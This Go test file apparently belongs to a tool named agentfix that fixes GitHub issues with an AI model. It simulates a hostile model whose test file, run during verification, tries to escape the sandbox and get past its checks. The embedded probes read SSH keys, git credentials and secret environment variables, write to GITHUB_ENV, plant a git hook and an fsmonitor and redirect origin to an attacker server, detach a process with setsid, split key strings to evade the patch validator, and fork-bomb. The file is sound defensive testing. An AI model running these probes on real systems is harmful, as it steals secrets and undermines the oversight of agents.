package hardening

// Hostile tests: the model's fix comes with a test file of its own, which
// the verify commands run on the runner before any person reads it. Each
// row's test tries one thing the issue saw succeed, writes what it got to
// a report in the one directory the config makes writable, and the row
// checks the outcome on the host. They run the built binary: processes,
// /proc and the sandbox are real.

import (
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/agentfix/agentfix/internal/testing/actiontest"
	"github.com/agentfix/agentfix/internal/testing/ollamafake"
	"github.com/agentfix/agentfix/internal/verify"
)

// probeWorld is a hostile row's world, with verify.sandbox set to sandbox
// (required, so that a runner without bubblewrap fails the row instead of
// passing it unsandboxed) and the report file's directory writable.
func probeWorld(t *testing.T, sandbox, extraConfig string) (w *world, report string) {
	t.Helper()
	dir := t.TempDir()
	report = filepath.Join(dir, "report")
	w = newWorld(t, nil)
	w.config("verify:\n  sandbox: " + sandbox + "\n  writable: [" + strconv.Quote(dir) + "]\n" + extraConfig)
	return w, report
}

// answerProbe makes the model answer with the fix plus probe_test.go made
// of src, in which {{REPORT}} is report and the pairs of vars are
// replaced too.
func (w *world) answerProbe(src, report string, vars ...string) {
	w.AnswerWith(hostile(fill(src, report, vars...)))
}

func fill(src, report string, vars ...string) string {
	return strings.NewReplacer(append([]string{"{{REPORT}}", report}, vars...)...).Replace(src)
}

// hostile is FixDiff plus a new probe_test.go holding src.
func hostile(src string) string {
	return actiontest.FixDiff + newFile("probe_test.go", strings.Split(strings.TrimSuffix(src, "\n"), "\n")...)
}

// readReport is what the probe wrote; the row fails when it never ran.
func (c *check) readReport(r *actiontest.Result, path string) string {
	c.t.Helper()
	b, err := os.ReadFile(path)
	c.must(r, err == nil && len(b) > 0, "the model's test never wrote its report (%v): the row proves nothing", err)
	return string(b)
}

// issueRun opens the issue and runs the binary on its label.
func issueRun(w *world) (int, *actiontest.Result) {
	n := w.AddIssue()
	return n, w.RunBinary("issues", actiontest.LabeledPayload(n, "agent-fix", "alice"))
}

const networkProbe = `package calc

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"
)

func TestProbe(t *testing.T) {
	var b strings.Builder
	c, err := net.DialTimeout("tcp", "{{LISTENER}}", 2*time.Second)
	if err == nil {
		c.Close()
	}
	fmt.Fprintf(&b, "listener: %v\n", err)
	req, _ := http.NewRequest("DELETE", "{{OLLAMA}}/api/delete", strings.NewReader("{\"model\":\"{{MODEL}}\"}"))
	resp, err := (&http.Client{Timeout: 2 * time.Second}).Do(req)
	if err == nil {
		resp.Body.Close()
	}
	fmt.Fprintf(&b, "ollama: %v\n", err)
	os.WriteFile("{{REPORT}}", []byte(b.String()), 0o644)
}
`

const homeProbe = `package calc

import (
	"fmt"
	"os"
	"strings"
	"testing"
)

func TestProbe(t *testing.T) {
	var b strings.Builder
	for _, p := range []string{os.Getenv("HOME") + "/.ssh/id_ed25519", "{{HOME}}/.ssh/id_ed25519", "{{HOME}}/.git-credentials"} {
		data, err := os.ReadFile(p)
		fmt.Fprintf(&b, "%s: %q %v\n", p, data, err)
	}
	os.WriteFile("{{REPORT}}", []byte(b.String()), 0o644)
}
`

const writeProbe = `package calc

import (
	"fmt"
	"os"
	"strings"
	"testing"
)

func TestProbe(t *testing.T) {
	var b strings.Builder
	for _, p := range strings.Split("{{TARGETS}}", ",") {
		f, err := os.OpenFile(p, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
		if err == nil {
			_, err = f.WriteString("PWNED=1\n")
			f.Close()
		}
		fmt.Fprintf(&b, "%s: %v\n", p, err)
	}
	os.WriteFile("{{REPORT}}", []byte(b.String()), 0o644)
}
`

const envProbe = `package calc

import (
	"os"
	"strings"
	"testing"
)

func TestProbe(t *testing.T) {
	os.WriteFile("{{REPORT}}", []byte(strings.Join(os.Environ(), "\n")+"\n"), 0o644)
}
`

// plantProbe does to .git what the issue's test did: a hook, an fsmonitor
// and a url.insteadOf sending origin to the attacker, each program
// leaving its environment in {{PROOF}} when run.
const plantProbe = `package calc

import (
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
)

func TestProbe(t *testing.T) {
	var b strings.Builder
	script := "#!/bin/sh\nenv >> {{PROOF}}\n"
	err := os.WriteFile(".git/hooks/post-index-change", []byte(script), 0o755)
	fmt.Fprintf(&b, "hook: %v\n", err)
	err = os.WriteFile("fsmonitor.sh", []byte(script), 0o755)
	fmt.Fprintf(&b, "fsmonitor.sh: %v\n", err)
	wd, _ := os.Getwd()
	for _, kv := range [][2]string{{"core.fsmonitor", wd + "/fsmonitor.sh"}, {"url.{{ATTACKER}}/.insteadOf", "{{ORIGIN}}"}} {
		out, err := exec.Command("git", "config", kv[0], kv[1]).CombinedOutput()
		fmt.Fprintf(&b, "git config %s: %v %s\n", kv[0], err, out)
	}
	os.WriteFile("{{REPORT}}", []byte(b.String()), 0o644)
}
`

// escapeProbe starts a process that leaves the test's process group
// (setsid) and its environment marker (env -i), as the issue's test did,
// and checks it runs.
const escapeProbe = `package calc

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"
)

func TestProbe(t *testing.T) {
	err := exec.Command("setsid", "sh", "-c", "(env -i sleep {{SLEEP}} &)").Run()
	seen := false
	for i := 0; i < 50 && !seen; i++ {
		entries, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, e := range entries {
			if b, _ := os.ReadFile(e); bytes.Equal(b, []byte("sleep\x00{{SLEEP}}\x00")) {
				seen = true
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	os.WriteFile("{{REPORT}}", []byte(fmt.Sprintf("started: %v, running: %v\n", err, seen)), 0o644)
}
`

// tamperProbe rewrites the fixed file while the tests run: an AWS key and
// a private key header appended, and a file of its own; the literals are
// split so the patch validator does not refuse the diff itself.
const tamperProbe = `package calc

import (
	"os"
	"testing"
)

func TestProbe(t *testing.T) {
	f, err := os.OpenFile("calc.go", os.O_APPEND|os.O_WRONLY, 0)
	if err == nil {
		f.WriteString("// AKIA" + "IOSFODNN7EXAMPLE\n// -----BEGIN OPENSSH " + "PRIVATE KEY-----\n")
		f.Close()
	}
	os.WriteFile("loot.txt", []byte("exfiltrated\n"), 0o644)
	os.WriteFile("{{REPORT}}", []byte("tampered\n"), 0o644)
}
`

// attackerServer counts the requests it gets.
func attackerServer(t *testing.T) (url string, hits *atomic.Int32) {
	hits = &atomic.Int32{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		http.Error(w, "no", http.StatusUnauthorized)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, hits
}

// plantRow is the hook/fsmonitor/insteadOf row with the sandbox on or off.
func plantRow(sandbox string) func(t *testing.T, c *check) {
	return func(t *testing.T, c *check) {
		proof := filepath.Join(t.TempDir(), "ran")
		url, hits := attackerServer(t)
		w, report := probeWorld(t, sandbox, "")
		w.answerProbe(plantProbe, report, "{{PROOF}}", proof, "{{ATTACKER}}", url, "{{ORIGIN}}", "file://")
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		got := c.readReport(r, report)
		b, _ := os.ReadFile(filepath.Join(w.Workspace, ".git", "config"))
		// The sections git config writes (the row's name, in the paths of
		// the config, holds the words too).
		cfg := strings.ToLower(string(b))
		planted := strings.Contains(cfg, "[url ") && strings.Contains(cfg, "fsmonitor =")
		_, hookErr := os.Stat(filepath.Join(w.Workspace, ".git", "hooks", "post-index-change"))
		if sandbox == "off" {
			// The attack worked on the work tree: only agentfix's git
			// stands between it and the token.
			c.must(r, hookErr == nil && planted, "the unsandboxed test could not plant its hook and config (the row proves nothing):\n%s", got)
		} else {
			c.must(r, hookErr != nil && !strings.Contains(cfg, "[url ") && !strings.Contains(cfg, "fsmonitor ="), "the sandboxed test wrote into .git:\n%s\n%s", got, cfg)
			c.must(r, strings.Count(strings.ToLower(got), "read-only file system") == 3, "the test's writes into .git did not fail as read-only:\n%s", got)
		}
		ran, err := os.ReadFile(proof)
		c.must(r, err != nil, "a program the test planted ran under agentfix's git:\n%s", ran)
		c.must(r, hits.Load() == 0, "the attacker's server got %d requests", hits.Load())
		c.see("exit 0 fixed, the PR's branch on the real origin; planted: %v; hook and fsmonitor never ran; attacker's server got 0 requests", sandbox == "off")
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}
}

var sandboxAttacks = []scenario{
	{"model test: network", "no connection reaches a 127.0.0.1 listener or the Ollama server (DELETE /api/delete); fixed, one PR", func(t *testing.T, c *check) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		var accepted atomic.Int32
		go func() {
			for {
				conn, err := ln.Accept()
				if err != nil {
					return
				}
				accepted.Add(1)
				conn.Close()
			}
		}()
		t.Cleanup(func() { ln.Close() })
		w, report := probeWorld(t, "required", "")
		w.answerProbe(networkProbe, report, "{{LISTENER}}", ln.Addr().String(), "{{MODEL}}", actiontest.Model, "{{OLLAMA}}", w.Ollama.URL)
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		got := c.readReport(r, report)
		c.must(r, accepted.Load() == 0, "the listener accepted %d connections from the tests", accepted.Load())
		for _, req := range w.Ollama.Requests() {
			c.must(r, req.Method != http.MethodDelete && req.Path != "/api/delete", "the Ollama server got %s %s from the tests", req.Method, req.Path)
		}
		c.must(r, strings.Count(got, ": <nil>") == 0, "a connection succeeded:\n%s", got)
		c.see("exit 0 fixed; listener accepted 0, Ollama got no request from the tests; the test saw %q", oneLine(got))
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}},
	{"model test: $HOME secrets", "~/.ssh and ~/.git-credentials of the runner's home unreadable (a throwaway home); fixed, one PR", func(t *testing.T, c *check) {
		home := t.TempDir()
		const canary = "HOME-CANARY-5e1f0a"
		os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
		os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte(canary+"\n"), 0o600)
		os.WriteFile(filepath.Join(home, ".git-credentials"), []byte("https://x:"+canary+"@github.com\n"), 0o600)
		w, report := probeWorld(t, "required", "")
		w.answerProbe(homeProbe, report, "{{HOME}}", home)
		w.Env["HOME"] = home
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		got := c.readReport(r, report)
		c.must(r, !strings.Contains(got, canary), "the test read the runner's home:\n%s", got)
		c.must(r, strings.Count(got, "no such file or directory") == 3, "the test's reads did not all fail:\n%s", got)
		c.see("exit 0 fixed; all 3 reads failed: no such file or directory")
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}},
	{"model test: writes outside the work tree", "GITHUB_ENV, GITHUB_PATH, GITHUB_OUTPUT, GITHUB_STEP_SUMMARY, RUNNER_TEMP and the runner's directory unchanged; fixed, one PR", func(t *testing.T, c *check) {
		w, report := probeWorld(t, "required", "")
		ghEnv, ghPath, outside := filepath.Join(w.Dir, "github_env"), filepath.Join(w.Dir, "github_path"), filepath.Join(w.Dir, "outside.txt")
		os.WriteFile(ghEnv, []byte("KEEP=1\n"), 0o644)
		os.WriteFile(ghPath, nil, 0o644)
		w.Env["GITHUB_ENV"], w.Env["GITHUB_PATH"] = ghEnv, ghPath
		targets := []string{ghEnv, ghPath, filepath.Join(w.Dir, "github_output"), filepath.Join(w.Dir, "step_summary"), filepath.Join(w.RunnerTemp(), "pwned"), outside}
		w.answerProbe(writeProbe, report, "{{TARGETS}}", strings.Join(targets, ","))
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		got := c.readReport(r, report)
		env, _ := os.ReadFile(ghEnv)
		path, _ := os.ReadFile(ghPath)
		c.must(r, string(env) == "KEEP=1\n" && len(path) == 0, "GITHUB_ENV or GITHUB_PATH changed: %q %q", env, path)
		c.must(r, !strings.Contains(r.Summary, "PWNED") && r.Outputs["PWNED"] == "", "the step summary or the outputs got the test's line")
		c.must(r, absent(filepath.Join(w.RunnerTemp(), "pwned")) && absent(outside), "the test wrote into RUNNER_TEMP or the runner's directory")
		// A write may succeed inside the sandbox where it lands in a
		// throwaway tmpfs (RUNNER_TEMP is one); none reaches the host.
		c.see("exit 0 fixed; none of %d writes reached the host; the test saw %q", len(targets), oneLine(got))
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}},
	{"model test: secret-named and unlisted variables", "none of GH_PAT, NPM_AUTH, OPENAI_KEY, DEPLOY_KEY, DATABASE_URL (password), GPG_PASSPHRASE, DOCKER_AUTH_CONFIG, PYPI_PASS, SENTRY_DSN, GITHUB_ENV, GITHUB_PATH, RUNNER_*, ACTIONS_*, the token or an unlisted variable reach the test; fixed, one PR", func(t *testing.T, c *check) {
		w, report := probeWorld(t, "required", "")
		w.answerProbe(envProbe, report)
		vars := map[string]string{
			"GH_PAT": "ghp_canary1", "NPM_AUTH": "canary2", "OPENAI_KEY": "canary3", "DEPLOY_KEY": "canary4",
			"DATABASE_URL": "postgres://app:canary5@db/app", "GPG_PASSPHRASE": "canary6", "DOCKER_AUTH_CONFIG": "canary7",
			"PYPI_PASS": "canary8", "SENTRY_DSN": "https://canary9@sentry.example/1", "GITHUB_ENV": filepath.Join(w.Dir, "github_env"),
			"GITHUB_PATH": filepath.Join(w.Dir, "github_path"), "RUNNER_NAME": "runner-canary", "ACTIONS_RUNTIME_TOKEN": token,
			"MY_APP_SETTING": "unlisted-canary",
		}
		for k, v := range vars {
			w.Env[k] = v
		}
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		got := c.readReport(r, report)
		var leaked []string
		for k, v := range vars {
			if strings.Contains(got, k+"=") || strings.Contains(got, v) {
				leaked = append(leaked, k)
			}
		}
		c.must(r, len(leaked) == 0, "the test's environment holds %v", leaked)
		c.must(r, strings.Contains(got, "PATH="), "the test's environment has no PATH (the probe proves nothing):\n%s", got)
		c.see("exit 0 fixed; the test saw %d variables, none of the %d planted", strings.Count(got, "\n"), len(vars))
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}},
	{"model test: plants hook, fsmonitor, insteadOf (sandbox on)", ".git is read-only to the test: nothing planted, nothing ran, the push went to origin; fixed, one PR", plantRow("required")},
	{"model test: plants hook, fsmonitor, insteadOf (sandbox off)", "planted, but agentfix's git runs no hook or fsmonitor and publishes from its own git directory: the push goes to the real origin, the attacker's server hears nothing; fixed, one PR", plantRow("off")},
	{"model test: setsid + env -i escapee", "the escaped process (its own session, no marker) is gone when agentfix exits; fixed, one PR", func(t *testing.T, c *check) {
		pidFile := filepath.Join(t.TempDir(), "escapee")
		arg := sleepArg(pidFile)
		w, report := probeWorld(t, "required", "")
		w.answerProbe(escapeProbe, report, "{{SLEEP}}", arg)
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		got := c.readReport(r, report)
		c.must(r, strings.Contains(got, "started: <nil>, running: true"), "the escapee never ran (the row proves nothing): %s", got)
		os.WriteFile(pidFile, []byte("1"), 0o644)
		_, ok := gone(pidFile)
		c.must(r, ok, "sleep %s still runs after agentfix exited", arg)
		c.see("exit 0 fixed; the test saw its escapee running; after exit no process 'sleep %s' is left", arg)
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}},
	{"model test: rewrites the fixed file during verify", "the pushed commit is exactly the validated diff (no key, no extra file); the log, session record and step summary say calc.go and loot.txt changed; fixed, one PR", func(t *testing.T, c *check) {
		w, report := probeWorld(t, "required", "")
		w.answerProbe(tamperProbe, report)
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		c.readReport(r, report)
		branch := "refs/heads/agent-fix/issue-" + itoa(n)
		files := gitOut(w.Origin, "diff", "--name-only", "main", branch)
		c.must(r, files == "calc.go\nprobe_test.go", "the pushed commit changes %q, want calc.go and probe_test.go", files)
		msg := logged(r, "changed while the verify commands ran")
		c.must(r, strings.Contains(msg, "calc.go") && strings.Contains(msg, "loot.txt"), "the log does not say the tests changed calc.go and loot.txt:\n%s", tail(r.Stderr, 3000))
		c.must(r, strings.Contains(r.Summary, "changed `calc.go`, `loot.txt` while they ran"), "the step summary does not say so:\n%s", r.Summary)
		paths := w.sessionPaths("fix-issue")
		c.must(r, len(paths) == 1, "want one session record, got %v", paths)
		rec, _ := os.ReadFile(paths[0])
		c.must(r, strings.Contains(string(rec), `"drift":["calc.go","loot.txt"]`), "the session record does not name the changed files")
		c.see("exit 0 fixed; the branch holds FixedCalc and probe_test.go only; logged %q", msg)
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}},
	{"model test: fork bomb", "stopped at verify.max_processes by the command's cgroup, a root runner too (or, with no writable cgroup, by RLIMIT_NPROC, which binds only an unprivileged user); nothing left after exit; fixed, one PR", forkBombRow},
	{"model test: memory hog", "its 2 GiB allocation is stopped at verify.max_memory_mb: the command's cgroup has the kernel kill it, a root runner too (RLIMIT_DATA fails it where no cgroup is writable); the round fails with the reason fed back, the next round fixes; fixed, one PR", func(t *testing.T, c *check) {
		// 1 GiB for the whole command: go's compiler on a cold build
		// cache needs more than 512 MiB.
		w, report := probeWorld(t, "required", "  max_memory_mb: 1024\n")
		lim := verify.CheckLimits(verify.Sandbox{MaxMemoryMB: 1024})
		hog := hostile(fill(hogProbe, report))
		var patches atomic.Int32
		w.Ollama.Respond("", func(req ollamafake.Request) ollamafake.Reply {
			if len(req.Format) > 0 {
				return ollamafake.Text(actiontest.PlanJSON)
			}
			if patches.Add(1) == 1 {
				return ollamafake.Text("```diff\n" + hog + "```\n")
			}
			return ollamafake.Text("```diff\n" + actiontest.FixDiff + "```\n")
		})
		n, r := issueRun(w)
		c.wantFixed(w, r, n)
		got := c.readReport(r, report)
		// With a cgroup the kernel kills the hog, and the reason is read
		// from the cgroup's OOM counter; with RLIMIT_DATA go's runtime says
		// it is out of memory.
		reason := "out of memory"
		if strings.HasPrefix(lim.By, "cgroup") {
			reason = "killed out of memory: the command's processes together reached verify.max_memory_mb (1024 MiB), and the kernel killed 1 of them (" + lim.By
		}
		fed := false
		for _, ch := range w.Ollama.Chats() {
			fed = fed || strings.Contains(ch.LastMessage(), reason)
		}
		c.must(r, fed, "the hog's failure was not fed back to the model saying %q", reason)
		// The hog itself says whether its 2 GiB were ever granted (the
		// largest descendant's RSS would count go's own compiler too,
		// which a cold build cache makes large).
		c.must(r, !strings.Contains(got, "survived the allocation"), "the hog got its 2 GiB:\n%s", got)
		c.see("exit 0 fixed in round 2; the hog (%s) died out of memory, limited by %s", strings.TrimSpace(got), lim.By)
		c.settle(w, r, outcome{diff: true, session: "fix-issue", agentBranches: 1})
	}},
}

const hogProbe = `package calc

import (
	"os"
	"testing"
)

func TestProbe(t *testing.T) {
	os.WriteFile("{{REPORT}}", []byte("allocating 2 GiB\n"), 0o644)
	b := make([]byte, 2<<30)
	for i := 0; i < len(b); i += 4096 {
		b[i] = 1
	}
	status, _ := os.ReadFile("/proc/self/status")
	f, _ := os.OpenFile("{{REPORT}}", os.O_APPEND|os.O_WRONLY, 0)
	f.Write(append([]byte("survived the allocation:\n"), status...))
	f.Close()
	t.Log(len(b))
}
`
